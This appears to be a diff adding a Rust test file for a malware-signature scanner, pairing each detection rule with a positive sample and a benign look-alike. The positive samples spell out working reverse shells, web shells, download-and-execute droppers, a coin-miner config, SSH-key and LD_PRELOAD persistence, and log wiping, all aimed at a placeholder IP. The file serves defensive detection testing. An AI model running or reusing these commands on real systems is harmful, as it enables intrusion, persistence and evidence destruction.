@@ -1,0 +1,187 @@
+//! Every default rule has a positive and a negative sample, generated here (no live malware is
+//! committed). One scan over all samples checks that each positive is found by exactly its rule and
+//! that no negative (benign look-alikes) is detected at all.
+
+mod common;
+
+use common::{Sandbox, eicar};
+
+/// A PE image with the given section names in its section table.
+fn pe_with_sections(names: [&[u8; 8]; 2]) -> Vec<u8> {
+    let mut image = vec![0u8; 0x400];
+    image[0..2].copy_from_slice(b"MZ");
+    image[0x3C..0x40].copy_from_slice(&0x80u32.to_le_bytes());
+    image[0x80..0x84].copy_from_slice(b"PE\0\0");
+    // COFF header (20 bytes) + optional header (0xE0) lead to the section table.
+    let table = 0x80 + 4 + 20 + 0xE0;
+    image[table..table + 8].copy_from_slice(names[0]);
+    image[table + 40..table + 48].copy_from_slice(names[1]);
+    image
+}
+
+/// An ELF header followed by `body`.
+fn elf(body: &[u8]) -> Vec<u8> {
+    let mut image = b"\x7fELF\x02\x01\x01\0".to_vec();
+    image.resize(64, 0);
+    image.extend_from_slice(body);
+    image
+}
+
+/// (rule, positive sample, negative sample)
+fn cases() -> Vec<(&'static str, Vec<u8>, Vec<u8>)> {
+    let mut eicar_padded = eicar();
+    eicar_padded.extend_from_slice(b"\r\n");
+    let mut eicar_late = b"prefix ".to_vec();
+    eicar_late.extend_from_slice(&eicar());
+    vec![
+        ("eicar.EICAR_Test_File", eicar_padded, eicar_late),
+        (
+            "reverse_shells.ReverseShell_DevTcp",
+            b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n".to_vec(),
+            b"# check a port: timeout 1 bash -c 'cat < /dev/null > /dev/tcp/localhost/22'\n".to_vec(),
+        ),
+        (
+            "reverse_shells.ReverseShell_Netcat",
+            b"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f\n".to_vec(),
+            b"nc -zv example.org 443\nnc -l 8080 > upload.bin\n".to_vec(),
+        ),
+        (
+            "reverse_shells.ReverseShell_Python",
+            b"import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"203.0.113.7\",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=subprocess.call([\"/bin/sh\",\"-i\"]);\n".to_vec(),
+            b"import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect((host, port))\ns.sendall(b'hello')\n".to_vec(),
+        ),
+        (
+            "reverse_shells.ReverseShell_Perl",
+            b"perl -e 'use Socket;$i=\"203.0.113.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'\n".to_vec(),
+            b"use Socket;\nmy $addr = sockaddr_in($port, inet_aton($host));\nconnect(S, $addr) or die;\nprint S \"GET / HTTP/1.0\\r\\n\\r\\n\";\n".to_vec(),
+        ),
+        (
+            "webshells.Webshell_PHP_EvalRequest",
+            b"<?php @eval(base64_decode($_POST['cmd'])); ?>\n".to_vec(),
+            b"<?php $name = htmlspecialchars($_GET['name']); echo \"Hello $name\"; ?>\n".to_vec(),
+        ),
+        (
+            "webshells.Webshell_JSP_RuntimeExec",
+            b"<% Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>\n".to_vec(),
+            b"<% String user = request.getParameter(\"user\"); out.println(user); %>\n".to_vec(),
+        ),
+        (
+            "webshells.Webshell_ASPX_EvalRequest",
+            b"<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"pass\"],\"unsafe\");%>\n".to_vec(),
+            b"<%@ Page Language=\"C#\" %><% Response.Write(Request.QueryString[\"q\"]); %>\n".to_vec(),
+        ),
+        (
+            "coinminers.CoinMiner_XMRig_Config",
+            b"{\n \"donate-level\": 0,\n \"pools\": [ { \"url\": \"stratum+tcp://pool.example.net:3333\", \"user\": \"44AFFq5kSiGBoZ\" } ]\n}\n".to_vec(),
+            b"{\n \"pools\": [\"default\"],\n \"workers\": 4\n}\n".to_vec(),
+        ),
+        (
+            "coinminers.CoinMiner_Stratum_CommandLine",
+            b"nohup ./kworker -o stratum+tcp://pool.example.net:4444 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft -p x &\n".to_vec(),
+            b"# our pool docs mention stratum+tcp://pool.example.net:4444 for reference only\n".to_vec(),
+        ),
+        (
+            "packers.Packer_UPX_ELF",
+            elf(b"....UPX!....payload....UPX!...."),
+            elf(b"ordinary program text"),
+        ),
+        (
+            "packers.Packer_UPX_PE",
+            pe_with_sections([b"UPX0\0\0\0\0", b"UPX1\0\0\0\0"]),
+            pe_with_sections([b".text\0\0\0", b".data\0\0\0"]),
+        ),
+        (
+            "droppers.Dropper_FetchToTmpAndExecute",
+            b"cd /tmp; wget http://203.0.113.7/x86 -O /tmp/.x86; chmod +x /tmp/.x86; /tmp/.x86 &\n".to_vec(),
+            b"wget https://example.org/release.tar.gz -O /tmp/release.tar.gz\ntar xf /tmp/release.tar.gz\n".to_vec(),
+        ),
+        (
+            "droppers.Dropper_PipeRawIPToShell",
+            b"curl -s http://203.0.113.7:8080/init.sh | bash\n".to_vec(),
+            b"curl -fsSL https://sh.example.org/install.sh | sh\n".to_vec(),
+        ),
+        (
+            "droppers.Dropper_PowerShell_DownloadExecute",
+            b"powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\"\n".to_vec(),
+            b"$data = (New-Object Net.WebClient).DownloadString('https://example.org/data.json') | ConvertFrom-Json\n".to_vec(),
+        ),
+        (
+            "droppers.Dropper_Certutil_Download",
+            b"certutil.exe -urlcache -split -f http://203.0.113.7/payload.exe C:\\Users\\Public\\p.exe\n".to_vec(),
+            b"certutil -hashfile C:\\setup.exe SHA256\n".to_vec(),
+        ),
+        (
+            "persistence.Persistence_SSHKeyInjection",
+            b"echo \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 attacker@host\" >> /root/.ssh/authorized_keys\n".to_vec(),
+            b"cat ~/.ssh/id_ed25519.pub\nssh-copy-id user@server\n".to_vec(),
+        ),
+        (
+            "persistence.Persistence_LdPreloadHijack",
+            b"echo /usr/local/lib/libprocesshider.so > /etc/ld.so.preload\n".to_vec(),
+            b"cat /etc/ld.so.preload\nldd /bin/ls\n".to_vec(),
+        ),
+        (
+            "persistence.AntiForensics_LogWiper",
+            b"unset HISTFILE\ncat /dev/null > /var/log/wtmp\nrm -rf /var/log\n".to_vec(),
+            b"history -c\n# rotate logs\nlogrotate /etc/logrotate.conf\n".to_vec(),
+        ),
+    ]
+}
+
+#[test]
+fn every_default_rule_finds_its_positive_and_spares_its_negative() {
+    let sandbox = Sandbox::new();
+    let cases = cases();
+    for (index, (_, positive, negative)) in cases.iter().enumerate() {
+        sandbox.write(&format!("positive/{index}"), positive);
+        sandbox.write(&format!("negative/{index}"), negative);
+    }
+    let scan = sandbox.scan(&["custom", sandbox.corpus("").to_str().unwrap()]);
+    assert_eq!(scan.code, 1, "{}", scan.stderr);
+    let mut expected: Vec<(String, String)> = cases
+        .iter()
+        .enumerate()
+        .map(|(index, (rule, _, _))| {
+            let path = sandbox.corpus(&format!("positive/{index}"));
+            (path.to_str().unwrap().to_string(), rule.to_string())
+        })
+        .collect();
+    expected.sort();
+    assert_eq!(scan.detections(), expected);
+    assert_eq!(scan.summary()["errors"], 0);
+}
+
+#[test]
+fn every_default_rule_is_covered_and_carries_its_metadata() {
+    let rules_in_signatures: usize =
+        std::fs::read_dir(concat!(env!("CARGO_MANIFEST_DIR"), "/signatures"))
+            .unwrap()
+            .map(|entry| std::fs::read_to_string(entry.unwrap().path()).unwrap())
+            .map(|text| {
+                text.lines()
+                    .filter(|line| line.starts_with("rule "))
+                    .count()
+            })
+            .sum();
+    assert_eq!(
+        rules_in_signatures,
+        cases().len(),
+        "each rule needs a case above"
+    );
+
+    let sandbox = Sandbox::new();
+    for (index, (_, positive, _)) in cases().iter().enumerate() {
+        sandbox.write(&index.to_string(), positive);
+    }
+    let scan = sandbox.scan(&["custom", sandbox.corpus("").to_str().unwrap()]);
+    for detection in scan.of_type("detection") {
+        let threat = detection["threat"].as_str().unwrap();
+        let (family, rest) = threat.split_once(':').expect("Family:Platform/Name");
+        assert!(!family.is_empty() && rest.contains('/'), "{threat}");
+        assert!(
+            ["low", "medium", "high", "critical"]
+                .contains(&detection["severity"].as_str().unwrap())
+        );
+        assert!(!detection["description"].as_str().unwrap().is_empty());
+    }
+}
